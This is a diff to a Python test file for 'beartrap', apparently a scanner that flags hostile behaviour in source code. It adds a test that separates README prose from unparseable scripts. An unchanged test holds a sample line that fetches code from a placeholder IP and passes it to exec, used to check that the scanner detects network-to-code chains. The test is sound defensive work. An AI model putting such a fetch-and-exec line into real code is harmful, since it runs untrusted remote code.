@@ -9,6 +9,7 @@ from beartrap.model.coverage import Gap
 from beartrap.model.finding import Severity
 from beartrap.model.question import Question
 from beartrap.vet.behaviour import Behaviour, When
+from beartrap.vet.kinds import Kind
 from beartrap.vet.source.languages import javascript
 from beartrap.vet.source.windows import windows
 
@@ -80,6 +81,13 @@ def test_python_that_nobody_can_read_is_a_gap():
 def test_python_2_is_read_all_the_same():
     text = "import urllib2\nprint 'x'\nexec urllib2.urlopen('http://192.0.2.1/a').read()\n"
     assert the("a.py", text, "chain.network-to-code").place.row == 3
+
+
+def test_prose_with_examples_that_act_holds_nothing_up_and_a_script_that_does_not_parse_does():
+    text = "5 minutes, 3x as fast: it's a [tool](x)!\n\n" * 9 + "from tool import run\nimport os\nos.system(run())\n"
+    (prose,) = (one for one in look("README.md", text, kind=Kind.PYTHON) if isinstance(one, Gap))
+    (script,) = (one for one in look("tool.py", text) if isinstance(one, Gap))
+    assert not prose.questions and Question.NEXT in script.questions
 
 
 @pytest.mark.parametrize(
